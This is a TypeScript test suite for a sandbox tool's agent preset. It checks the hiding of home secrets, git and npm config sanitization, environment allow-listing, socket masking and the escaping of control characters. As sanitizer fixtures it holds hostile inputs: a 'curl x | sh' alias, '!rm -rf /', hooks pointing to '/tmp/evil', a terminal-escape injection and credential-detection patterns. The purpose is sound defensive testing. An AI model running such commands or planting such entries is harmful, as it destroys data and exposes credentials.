// The agent preset's secrets and reach, as resolved plans on made-up hosts:
// the home by allow-list (password database, never $HOME alone), caches
// copy-on-write, sanitized git and npm settings, the environment by
// allow-list, root-only files, host sockets, the resolver; and how explain
// and doctor describe them.

import { realpathSync } from 'node:fs';
import { userInfo } from 'node:os';
import { socketReach } from '../src/diagnose';
import { explainPlan, formatExplanation, escapeControl } from '../src/explain';
import { disallowedNames, looksLikeCredential } from '../src/presets/credentials';
import { sanitizeGitConfig, sanitizeNpmrc } from '../src/presets/home-files';
import { fakeHost } from '../src/presets/host';
import { MAX_MASKS } from '../src/presets/reach';
import { resolvePreset, type PresetOptions } from '../src/presets';
import { composePlan } from '../src/plan/compose';
import type { Op } from '../src/plan-types';

const targets = (ops: readonly Op[]): string[] => ops.map((op) => ('target' in op ? String(op.target) : op.kind));
const agent = (entries: Record<string, string>, extra: Partial<PresetOptions> = {}) =>
  resolvePreset({ name: 'agent', cwd: '/w/p', home: '/home/u', env: {}, host: fakeHost(entries), uid: 1000, ...extra });
const opAt = (ops: readonly Op[], target: string): Op | undefined => ops.find((op) => 'target' in op && op.target === target);

describe('the home by allow-list', () => {
  const secrets = {
    '/home/u/.ssh/id_rsa': 'private',
    '/home/u/.git-credentials': 'file',
    '/home/u/.aws/credentials': 'file',
    '/home/u/.claude/.credentials.json': 'file',
    '/home/u/.codex/auth.json': 'file',
    '/home/u/.cache/huggingface/token': 'file',
    '/home/u/.config/containers/auth.json': 'file',
    '/home/u/.terraformrc': 'file',
    '/home/u/.bash_history': 'file',
    '/home/u/.password-store/x.gpg': 'file',
    '/home/u/.mozilla/firefox/profiles.ini': 'file',
    '/home/u/.thunderbird/profiles.ini': 'file',
  };

  it('makes the home an empty private tmpfs and /home an empty one: no secret path gets any op or shows', () => {
    const r = agent({ ...secrets, '/home/other/.ssh/id_rsa': 'private' });
    expect(opAt(r.ops, '/home')).toEqual({ kind: 'tmpfs', target: '/home', mode: 0o755 });
    expect(opAt(r.ops, '/home/u')).toEqual({ kind: 'tmpfs', target: '/home/u', mode: 0o700 });
    expect(targets(r.ops).filter((t) => t.startsWith('/home/u/') || t.startsWith('/home/other'))).toEqual([]);
    expect(targets(r.ops).indexOf('/home/u')).toBeGreaterThan(targets(r.ops).indexOf('/home'));
  });

  it('takes the home from the password database, not $HOME (HOME=/nonexistent, HOME elsewhere)', () => {
    const real = realpathSync(userInfo().homedir);
    const r = resolvePreset({ name: 'agent', cwd: '/w/p', env: { HOME: '/nonexistent' }, host: fakeHost({ [real]: 'dir', [`${real}/.ssh/id_rsa`]: 'private' }), uid: 1000 });
    expect(opAt(r.ops, real)).toMatchObject({ kind: 'tmpfs', target: real });
    expect(targets(r.ops)).not.toContain('/nonexistent');
  });

  it('gives $HOME the same view when it names another directory, and nothing more when it links to the home', () => {
    const other = agent({ '/data/u/.ssh/id_rsa': 'private', '/data/u/.npm': 'dir', '/home/u/.npm': 'dir' }, { env: { HOME: '/data/u' } });
    expect(opAt(other.ops, '/data/u')).toEqual({ kind: 'tmpfs', target: '/data/u', mode: 0o700 });
    expect(opAt(other.ops, '/data/u/.npm')).toMatchObject({ kind: 'overlay', mode: 'tmp' });
    expect(targets(other.ops).filter((t) => t.includes('.ssh'))).toEqual([]);
    const linked = agent({ '/home/link': 'symlink:/home/u', '/home/u/.ssh/id_rsa': 'private' }, { env: { HOME: '/home/link' } });
    expect(targets(linked.ops).filter((t) => t.startsWith('/home/'))).toEqual(['/home/u']);
  });

  it('a $HOME under /var is a home too; a service account home under /var/lib does not empty /var/lib', () => {
    const r = agent({ '/var/tmp/x/home/.ssh/id': 'private', '/var/tmp/x/home/project': 'dir' }, { cwd: '/var/tmp/x/home/project', env: { HOME: '/var/tmp/x/home' } });
    expect(opAt(r.ops, '/var/tmp/x/home')).toEqual({ kind: 'tmpfs', target: '/var/tmp/x/home', mode: 0o700 });
    const svc = agent({ '/var/lib/postgresql/.pgpass': 'private', '/var/lib/dpkg': 'dir' }, { home: '/var/lib/postgresql' });
    expect(opAt(svc.ops, '/var/lib/postgresql')).toEqual({ kind: 'tmpfs', target: '/var/lib/postgresql', mode: 0o700 });
    expect(targets(svc.ops)).not.toContain('/var/lib');
  });

  it('never empties / or a system directory given as the home', () => {
    for (const home of ['/', '/var', '/usr/lib/x']) {
      const r = agent({ '/usr/lib/x': 'dir', '/var': 'dir' }, { home });
      expect(r.ops.some((op) => op.kind === 'tmpfs' && op.target === home)).toBe(false);
      expect(r.skipped).toContain(`${home} is not emptied: it is a system directory, not a home`);
    }
  });

  it('refuses a current directory that holds $HOME, not only one that holds the real home', () => {
    expect(() => agent({ '/data/u': 'dir' }, { cwd: '/data', env: { HOME: '/data/u' } })).toThrow(expect.objectContaining({ code: 'E_PLAN_INVALID', path: 'preset' }));
  });

  it('a home reached through a symlink is the resolved one: the current directory below it stays bound after it', () => {
    const r = agent({ '/home/u/proj/src': 'dir' }, { cwd: '/home/u/proj' });
    const t = targets(r.ops);
    expect(t.indexOf('/home/u/proj')).toBeGreaterThan(t.indexOf('/home/u'));
    expect(opAt(r.ops, '/home/u/proj')).toEqual({ kind: 'bind', source: '/home/u/proj', target: '/home/u/proj', writable: true });
  });

  it('shows toolchains read-only and caches copy-on-write, only those present', () => {
    const r = agent({
      '/home/u/.nvm/versions': 'dir',
      '/home/u/.rustup': 'dir',
      '/home/u/.cargo/bin': 'dir',
      '/home/u/.cargo/registry': 'dir',
      '/home/u/.cargo/credentials.toml': 'file',
      '/home/u/.local/bin': 'dir',
      '/home/u/.local/lib/python3.11/site-packages': 'dir',
      '/home/u/.npm/_cacache': 'dir',
      '/home/u/.cache/go-build': 'dir',
      '/home/u/go/pkg/mod': 'dir',
      '/home/u/.m2/repository': 'dir',
      '/home/u/.m2/settings.xml': 'file',
    });
    const ro = (p: string) => ({ kind: 'bind', source: p, target: p });
    const cow = (p: string) => ({ kind: 'overlay', target: p, lowers: [p], mode: 'tmp' });
    expect(r.ops).toEqual(
      expect.arrayContaining([
        ro('/home/u/.nvm'),
        ro('/home/u/.rustup'),
        ro('/home/u/.cargo/bin'),
        ro('/home/u/.local/bin'),
        ro('/home/u/.local/lib/python3.11'),
        cow('/home/u/.npm'),
        cow('/home/u/.cache/go-build'),
        cow('/home/u/.cargo/registry'),
        cow('/home/u/go/pkg/mod'),
        cow('/home/u/.m2/repository'),
      ]),
    );
    expect(targets(r.ops)).not.toContain('/home/u/.cargo/credentials.toml');
    expect(targets(r.ops)).not.toContain('/home/u/.m2/settings.xml');
    // A cache missing on the host needs no op: the home tmpfs is writable.
    expect(targets(r.ops)).not.toContain('/home/u/.cache/pip');
    expect(r.notes[r.ops.findIndex((op) => op.kind === 'overlay')]!.role).toBe('cache');
  });

  it('places a sanitized .gitconfig, .config/git/config and .npmrc as read-only files', () => {
    const r = agent({
      '/home/u/.gitconfig': 'file:[user]\n\tname = U\n[credential]\n\thelper = store\n',
      '/home/u/.config/git/config': 'file:[core]\n\tfsmonitor = /tmp/x\n\tautocrlf = input\n',
      '/home/u/.npmrc': 'file://registry.npmjs.org/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789\nsave-exact=true\n',
    });
    expect(opAt(r.ops, '/home/u/.gitconfig')).toEqual({ kind: 'file', target: '/home/u/.gitconfig', data: expect.stringContaining('\tname = U\n') });
    expect(JSON.stringify(r.ops)).not.toContain('helper');
    expect(JSON.stringify(r.ops)).not.toContain('fsmonitor');
    expect(JSON.stringify(r.ops)).not.toContain('npm_abcdefgh');
    expect(opAt(r.ops, '/home/u/.npmrc')).toEqual({ kind: 'file', target: '/home/u/.npmrc', data: 'save-exact=true\n' });
  });

  it('--allow-home shows one more path read-only, relative, ~/ or absolute, with the secrets inside it still hidden', () => {
    const host = { '/home/u/.config/nvim/init.lua': 'file', '/home/u/.config/gh/hosts.yml': 'file', '/home/u/.config/git/credentials': 'file', '/home/u/.vimrc': 'file' };
    const r = agent(host, { allowHome: ['.config', '~/.vimrc', '/home/u/.config/nvim', 'missing'] });
    expect(r.ops).toEqual(
      expect.arrayContaining([
        { kind: 'bind', source: '/home/u/.config', target: '/home/u/.config' },
        { kind: 'tmpfs', target: '/home/u/.config/gh', mode: 0 },
        { kind: 'bind', source: '/dev/null', target: '/home/u/.config/git/credentials' },
        { kind: 'bind', source: '/home/u/.vimrc', target: '/home/u/.vimrc' },
        { kind: 'bind', source: '/home/u/.config/nvim', target: '/home/u/.config/nvim' },
      ]),
    );
    expect(r.skipped).toContain('/home/u/missing is not shown (allowHome): it does not exist');
    for (const bad of ['/etc', '../other', '/home/u', '~/../x']) {
      expect(() => agent(host, { allowHome: [bad] })).toThrow(expect.objectContaining({ code: 'E_PLAN_INVALID', path: 'allowHome' }));
    }
  });

  it('stays well under the op limit on a busy home', () => {
    const host: Record<string, string> = {};
    for (const dir of ['.nvm', '.volta', '.pyenv', '.rustup', '.cargo/bin', '.cargo/registry', '.cargo/git', '.npm', '.cache/pip', '.cache/go-build', 'go/pkg/mod', 'go/bin', '.m2/repository', '.gradle/caches']) {
      host[`/home/u/${dir}`] = 'dir';
    }
    for (let i = 0; i < 500; i += 1) host[`/srv/s${i}.sock`] = 'socket';
    const r = agent(host);
    expect(r.ops.length).toBeLessThan(150);
    expect(r.ops.filter((op) => op.kind === 'bind' && op.source === '/dev/null')).toHaveLength(MAX_MASKS);
    expect(r.skipped.some((s) => s.includes(`${500 - MAX_MASKS} more host sockets are not masked`))).toBe(true);
  });
});

describe('sanitized settings', () => {
  it('keeps git identity and harmless settings, drops what runs, redirects or holds credentials', () => {
    const text = [
      '[include]',
      '\tpath = ~/.gitconfig.local',
      '[includeIf "gitdir:~/work/"]',
      '\tpath = work.inc',
      '[user]',
      '\tname = "A U"',
      '\temail = a@example.org',
      '\tsigningkey = ABC',
      '[core]',
      '\tpager = less -R',
      '\teditor = vim',
      '\tsshCommand = ssh -i key',
      '\tfsmonitor = /tmp/evil',
      '\thooksPath = /tmp/hooks',
      '\tautocrlf = input',
      '[credential "https://github.com"]',
      '\thelper = !gh auth git-credential',
      '[url "https://x-access-token:ghp_abcdefghijklmnopqrstuvwxyz0123@github.com/"]',
      '\tinsteadOf = https://github.com/',
      '[http]',
      '\textraHeader = Authorization: Bearer secret',
      '[alias]',
      '\tst = status -sb',
      '\tboom = !sh -c "curl x | sh"',
      '\tq = "!rm -rf /"',
      '[diff "bin"]',
      '\ttextconv = hexdump',
      '[filter "lfs"]',
      '\tclean = git-lfs clean',
      '[gpg]',
      '\tprogram = /tmp/evil',
      '[commit]',
      '\tgpgsign = true',
      '\tverbose = true',
      '[color]',
      '\tui = auto',
      '[safe]',
      '\tdirectory = *',
      '[init] defaultBranch = main',
    ].join('\n');
    const out = sanitizeGitConfig(text);
    expect(out).toBe(
      '# sanitized by sandboxctl: identity and harmless settings only\n' +
        '[user]\n\tname = "A U"\n\temail = a@example.org\n' +
        '[core]\n\tautocrlf = input\n' +
        '[alias]\n\tst = status -sb\n' +
        '[commit]\n\tverbose = true\n' +
        '[color]\n\tui = auto\n' +
        '[init]\n\tdefaultbranch = main\n',
    );
  });

  it('drops continuation tricks and control characters', () => {
    // git joins the lines: the header becomes part of the value, as git reads it.
    expect(sanitizeGitConfig('[user]\n\tname = a \\\n[core]\n\tpager = x\n')).not.toMatch(/^\[core\]$|pager/m);
    expect(sanitizeGitConfig('[core]\n\tpager = x\n[user]\n\temail = a@b\r\n')).not.toContain('pager');
  });

  it('keeps .npmrc settings but no token, password, login or client certificate', () => {
    const text = [
      '; comment with npm_abcdefghijklmnopqrstuvwxyz0123456789',
      'registry=https://registry.example.org/',
      '@corp:registry=https://npm.corp.example/',
      '//npm.corp.example/:_authToken=${NPM_TOKEN}',
      '//registry.example.org/:_auth=dXNlcjpwYXNz',
      '_authToken=abc',
      'always-auth=true',
      'email=a@example.org',
      'username=a',
      '_password=cGFzcw==',
      'certfile=/home/u/.npm/client.crt',
      'keyfile=/home/u/.npm/client.key',
      'proxy=http://user:pw@proxy:3128/',
      'save-exact=true',
    ].join('\n');
    expect(sanitizeNpmrc(text)).toBe('registry=https://registry.example.org/\n@corp:registry=https://npm.corp.example/\nsave-exact=true\n');
  });
});

describe('the environment by allow-list', () => {
  const env = {
    PATH: '/usr/bin',
    HOME: '/home/u',
    LANG: 'C.UTF-8',
    LC_ALL: 'C',
    TERM: 'xterm',
    EDITOR: 'vim',
    NVM_DIR: '/home/u/.nvm',
    GOPATH: '/home/u/go',
    AWS_CA_BUNDLE: '/etc/ssl/ca.pem',
    NIX_SSL_CERT_FILE: '/etc/ssl/ca.pem',
    SSL_CERT_FILE: '/etc/ssl/ca.pem',
    MYSQL_PWD: 'hunter2',
    SSHPASS: 'hunter2',
    BW_SESSION: 'abc',
    OP_SESSION_my: 'abc',
    SMTP_PASS: 'x',
    PASSPHRASE: 'x',
    SSH_AUTH_SOCK: '/tmp/ssh-x/agent.1',
    DBUS_SESSION_BUS_ADDRESS: 'unix:path=/run/user/1/bus',
    TMUX: '/tmp/tmux-1/default,1,0',
    MY_APP_MODE: 'dev',
    // Credential shapes under names on the allow-list.
    NODE_OPTIONS: '--header=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.sig',
    GOPROXY: 'https://user:pw@proxy.example/',
    PAGER: 'sk_live_abcdefghijklmnop',
    VISUAL: 'AIzaSyA1234567890abcdefghijklmnopqrstu',
    PIP_INDEX_URL: 'https://pypi.example/simple?token=abcdefghijkl',
    CC: 'DefaultEndpointsProtocol=https;AccountName=a;AccountKey=abcdefghijklmnopqrstuvwxyz==',
  };

  it('keeps listed names and CA bundles; removes everything else and credential-looking values, sorted', () => {
    expect(disallowedNames(env)).toEqual([
      'BW_SESSION',
      'CC',
      'DBUS_SESSION_BUS_ADDRESS',
      'GOPROXY',
      'MYSQL_PWD',
      'MY_APP_MODE',
      'NODE_OPTIONS',
      'OP_SESSION_my',
      'PAGER',
      'PASSPHRASE',
      'PIP_INDEX_URL',
      'SMTP_PASS',
      'SSHPASS',
      'SSH_AUTH_SOCK',
      'TMUX',
      'VISUAL',
    ]);
  });

  it('--allow-env keeps a name whatever it holds, a trailing * a prefix', () => {
    expect(disallowedNames(env, ['MYSQL_PWD', 'OP_SESSION_*', 'MY_APP_MODE'])).not.toEqual(expect.arrayContaining(['MYSQL_PWD', 'OP_SESSION_my', 'MY_APP_MODE']));
  });

  it('reports every removed name in removedEnv and unsets exactly those', () => {
    const r = agent({}, { env });
    expect(r.removedEnv).toEqual(disallowedNames(env));
    expect(r.policy.env?.unset).toEqual(r.removedEnv);
  });

  it.each([
    ['sk_live_abcdefghijklmnop'],
    ['rk_test_abcdefghijklmnop'],
    ['whsec_abcdefghijklmnopqrstuvwxyz'],
    ['AIzaSyA1234567890abcdefghijklmnopqrstu'],
    ['ya29.abcdefghijklmnopqrstuvwxyz'],
    ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abc'],
    ['glpat-abcdefghijklmnopqrstu'],
    ['xoxb-1234567890-abcdef'],
    ['sk-ant-api03-abcdefghijklmnopqrstuvwxyz'],
    ['sk-proj-abcdefghijklmnopqrstuvwxyz'],
    ['hf_abcdefghijklmnopqrstuvwxyzABCDEF'],
    ['AccountKey=abcdefghijklmnopqrstuvwxyz=='],
    ['--token=ghp_abcdefghijklmnopqrstuvwxyz0123'],
    ['postgres://app:pw@db/app'],
    ['-----BEGIN OPENSSH PRIVATE KEY-----'],
  ])('the value %s looks like a credential under any name', (value) => {
    expect(looksLikeCredential('EDITOR', value)).toBe(true);
  });
});

describe('root-only files', () => {
  const host = {
    '/etc/shadow': 'private',
    '/etc/shadow-': 'private',
    '/etc/gshadow': 'private',
    '/etc/passwd': 'file:root:x:0:0:root:/root:/bin/sh\n',
    '/etc/ssh/ssh_host_ed25519_key': 'private',
    '/etc/ssh/ssh_host_ed25519_key.pub': 'file',
    '/etc/ssh/sshd_config': 'file',
    '/etc/sudoers': 'private',
    '/etc/sudoers.d/admins': 'file',
    '/etc/security/opasswd': 'private',
    '/etc/NetworkManager/system-connections': 'private-dir',
    '/var/lib/private': 'private-dir',
    '/var/log/auth.log': 'private',
    '/root/.ssh/id_rsa': 'private',
  };

  it('hides what the world may not read from a root caller', () => {
    const r = agent(host, { uid: 0, home: '/root' });
    const hidden = (p: string, dir = false): Op => (dir ? { kind: 'tmpfs', target: p, mode: 0 } : { kind: 'bind', source: '/dev/null', target: p });
    expect(r.ops).toEqual(
      expect.arrayContaining([
        hidden('/etc/shadow'),
        hidden('/etc/shadow-'),
        hidden('/etc/gshadow'),
        hidden('/etc/ssh/ssh_host_ed25519_key'),
        hidden('/etc/sudoers'),
        hidden('/etc/sudoers.d', true),
        hidden('/etc/security/opasswd'),
        hidden('/etc/NetworkManager/system-connections', true),
        hidden('/var/lib/private', true),
        hidden('/var/log/auth.log'),
      ]),
    );
    expect(targets(r.ops)).not.toContain('/etc/ssh/ssh_host_ed25519_key.pub');
    expect(targets(r.ops)).not.toContain('/etc/sudoers.d/admins');
    // root's home is a home like any other.
    expect(opAt(r.ops, '/root')).toEqual({ kind: 'tmpfs', target: '/root', mode: 0o700 });
  });

  it('masks no socket inside a directory it already hid', () => {
    const r = agent({ '/var/lib/private/svc/s.sock': 'socket', '/var/lib/private': 'private-dir' }, { uid: 0, home: '/root' });
    expect(r.ops).toContainEqual({ kind: 'tmpfs', target: '/var/lib/private', mode: 0 });
    expect(targets(r.ops)).not.toContain('/var/lib/private/svc/s.sock');
  });

  it('adds nothing for an unprivileged caller (the files are unreadable to it anyway)', () => {
    const r = agent(host, { uid: 1000 });
    expect(targets(r.ops).filter((t) => t.startsWith('/etc/') && t !== '/etc/resolv.conf')).toEqual([]);
  });
});

describe('host sockets and the resolver', () => {
  it('makes /run, a /var/run directory, /var/tmp and the runtime directory private; a /var/run symlink stays', () => {
    const r = agent({ '/run/dbus/system_bus_socket': 'socket', '/var/run': 'dir', '/var/tmp': 'dir', '/run/user/1000': 'dir' }, { env: { XDG_RUNTIME_DIR: '/run/user/1000' } });
    expect(r.ops).toEqual(
      expect.arrayContaining([
        { kind: 'tmpfs', target: '/run', mode: 0o755 },
        { kind: 'tmpfs', target: '/var/run', mode: 0o755 },
        { kind: 'tmpfs', target: '/var/tmp', mode: 0o1777 },
        { kind: 'tmpfs', target: '/run/user/1000', mode: 0o700 },
      ]),
    );
    expect(targets(agent({ '/run': 'dir', '/var/run': 'symlink:/run' }).ops)).not.toContain('/var/run');
  });

  it('makes a runtime directory outside /run private too', () => {
    const r = agent({ '/xdg/bus': 'socket' }, { env: { XDG_RUNTIME_DIR: '/xdg' } });
    expect(r.ops).toContainEqual({ kind: 'tmpfs', target: '/xdg', mode: 0o700 });
    expect(targets(r.ops)).not.toContain('/xdg/bus');
  });

  it('masks the sockets a scan finds outside the private places (none in /tmp, none in a copy-on-write cache), those of the current directory after binding it', () => {
    const r = agent(
      {
        '/srv/app/app.sock': 'socket',
        '/var/lib/mysql/mysql.sock': 'socket',
        '/opt/tool/run/agent.sock': 'socket',
        // A cache is an overlay: its socket is overlayfs's inode, with no
        // listener behind it (the escape suite's route 6 connects to one).
        '/home/u/.cache/pip/x.sock': 'socket',
        // A toolchain is bound read-only: its socket would be the host's.
        '/home/u/.cargo/bin/tool.sock': 'socket',
        '/sockdir/tmux-1000/default': 'socket',
        '/tmp/tmux-1000/default': 'socket',
        '/w/p/dev.sock': 'socket',
        '/srv/file': 'file',
      },
      { env: { TMUX_TMPDIR: '/sockdir' } },
    );
    const masks = r.ops.filter((op) => op.kind === 'bind' && op.source === '/dev/null').map((op) => ('target' in op ? op.target : ''));
    expect(masks).toEqual(['/home/u/.cargo/bin/tool.sock', '/opt/tool/run/agent.sock', '/sockdir/tmux-1000/default', '/srv/app/app.sock', '/var/lib/mysql/mysql.sock', '/w/p/dev.sock']);
    expect(r.ops).toContainEqual({ kind: 'overlay', target: '/home/u/.cache/pip', lowers: ['/home/u/.cache/pip'], mode: 'tmp' });
    const cwd = targets(r.ops).indexOf('/w/p');
    expect(targets(r.ops).indexOf('/srv/app/app.sock')).toBeLessThan(cwd);
    expect(targets(r.ops).indexOf('/w/p/dev.sock')).toBeGreaterThan(cwd);
  });

  it('masks a host socket in the current directory after binding it, and scans /var/tmp when it holds the current directory', () => {
    const r = agent({ '/w/p/tmp/sockets/puma.sock': 'socket', '/w/p/node_modules/x/y.sock': 'socket', '/w/p/.git/z.sock': 'socket' });
    const t = targets(r.ops);
    expect(r.ops).toContainEqual({ kind: 'bind', source: '/dev/null', target: '/w/p/tmp/sockets/puma.sock', missingTarget: 'skip' });
    expect(t.indexOf('/w/p/tmp/sockets/puma.sock')).toBeGreaterThan(t.indexOf('/w/p'));
    expect(t).not.toContain('/w/p/node_modules/x/y.sock');
    const inTmp = agent({ '/tmp/p/dev.sock': 'socket', '/tmp/other.sock': 'socket' }, { cwd: '/tmp/p' });
    expect(inTmp.ops).toContainEqual({ kind: 'bind', source: '/dev/null', target: '/tmp/p/dev.sock', missingTarget: 'skip' });
    expect(targets(inTmp.ops)).not.toContain('/tmp/other.sock');
    const inVarTmp = agent({ '/var/tmp/p/src': 'dir', '/var/tmp/other/s.sock': 'socket' }, { cwd: '/var/tmp/p' });
    expect(targets(inVarTmp.ops)).not.toContain('/var/tmp');
    expect(inVarTmp.ops).toContainEqual({ kind: 'bind', source: '/dev/null', target: '/var/tmp/other/s.sock', missingTarget: 'skip' });
    expect(inVarTmp.skipped).toContain('/var/tmp is not made private: it holds the current directory (the socket scan looks there instead)');
  });

  it('--allow-socket binds a socket back and never masks it', () => {
    const r = agent({ '/srv/app/app.sock': 'socket', '/run/user/1000/ssh.sock': 'socket' }, { allowSocket: ['/srv/app/app.sock', '/run/user/1000/ssh.sock', '/nope.sock'] });
    expect(r.ops).toEqual(
      expect.arrayContaining([
        { kind: 'bind', source: '/srv/app/app.sock', target: '/srv/app/app.sock' },
        { kind: 'bind', source: '/run/user/1000/ssh.sock', target: '/run/user/1000/ssh.sock' },
      ]),
    );
    expect(r.ops.filter((op) => op.kind === 'bind' && op.source === '/dev/null').map((op) => op.target)).not.toContain('/srv/app/app.sock');
    expect(r.skipped).toContain('/nope.sock is not shown (allowSocket): it does not exist');
    const strict = resolvePreset({ name: 'strict', cwd: '/w/p', home: '/home/u', env: {}, host: fakeHost({ '/srv/app/app.sock': 'socket' }), allowSocket: ['/srv/app/app.sock'] });
    expect(strict.ops).toContainEqual({ kind: 'bind', source: '/srv/app/app.sock', target: '/srv/app/app.sock' });
    expect(strict.ops.filter((op) => op.kind === 'bind')).toHaveLength(1);
  });

  it('without a network, an empty resolv.conf where it leads; with the network, DNS under /run kept and no resolv.conf', () => {
    const host = { '/run/systemd/resolve/stub-resolv.conf': 'file:nameserver 127.0.0.53\n', '/etc/resolv.conf': 'symlink:../run/systemd/resolve/stub-resolv.conf' };
    const none = agent(host);
    expect(none.ops).toContainEqual({ kind: 'file', target: '/run/systemd/resolve/stub-resolv.conf', data: '' });
    expect(targets(none.ops)).not.toContain('/etc/resolv.conf');
    expect(none.policy.env?.set).toEqual({ npm_config_fetch_retries: '0' });
    const shared = agent(host, { network: 'host' });
    expect(shared.ops).toContainEqual({ kind: 'bind', source: '/run/systemd/resolve', target: '/run/systemd/resolve' });
    expect(shared.ops.some((op) => op.kind === 'file' && op.target.includes('resolv'))).toBe(false);
    expect(shared.policy.env?.set).toBeUndefined();
    expect(agent({ '/etc/resolv.conf': 'file:nameserver 10.0.0.1\n' }).ops).toContainEqual({ kind: 'file', target: '/etc/resolv.conf', data: '' });
  });
});

describe('explain', () => {
  it('says why each home entry, cache, sanitized file, hidden path and masked socket is there', () => {
    const r = agent({ '/run': 'dir', '/home/u/.nvm': 'dir', '/home/u/.npm': 'dir', '/home/u/.gitconfig': 'file:[user]\n\tname = U\n', '/srv/a.sock': 'socket' });
    const plan = composePlan(['sh'], { ops: r.ops, ...r.policy });
    const text = formatExplanation(explainPlan(plan, { notes: r.notes, host: fakeHost({}) }));
    expect(text).toMatch(/\/home\/u +your home: empty and private, writable in memory only, gone after the run\n/);
    expect(text).toMatch(/\/home\/u\/\.nvm +toolchain, read-only\n/);
    expect(text).toMatch(/\/home\/u\/\.npm +cache, copy-on-write: .*: overlay of \/home\/u\/\.npm; writes are private and gone after the run\n/);
    expect(text).toMatch(/\/home\/u\/\.gitconfig +git configuration, sanitized: .*: a file written for the run \(\d+ bytes\), read-only\n/);
    expect(text).toMatch(/\/srv\/a\.sock +a host socket: connecting to it fails .*: unreadable, \/dev\/null is bound over it\n/);
    expect(text).toMatch(/\/etc\/resolv\.conf +no nameserver: .*: an empty file, read-only\n/);
    expect(text).toMatch(/\/run +host services .*: an empty private directory \(mode 0755\)\n/);
  });

  it('escapes control characters in paths and program arguments', () => {
    const plan = { version: 1, argv: ['echo', '\u001b]0;owned\u0007'], ops: [{ kind: 'tmpfs', target: '/x\u001b[2J\u009b\u202e' } as Op] };
    const text = formatExplanation(explainPlan(plan, { host: fakeHost({}) }));
    // eslint-disable-next-line no-control-regex
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
    expect(text).toContain('/x\\x1b[2J\\x9b\\u{202e}');
    expect(text).toContain('\\x1b]0;owned\\x07');
    expect(escapeControl('plain /path')).toBe('plain /path');
  });
});

describe('doctor', () => {
  it('says the masks are in force and whether Landlock could restrict pathname sockets', () => {
    expect(socketReach(7)).toEqual({ landlockCanRestrict: false, inForce: 'mount-masks', text: expect.stringContaining('cannot restrict them (needs ABI 9)') });
    expect(socketReach(0).text).toContain('Landlock absent');
    expect(socketReach(9)).toMatchObject({ landlockCanRestrict: true, inForce: 'mount-masks' });
  });
});
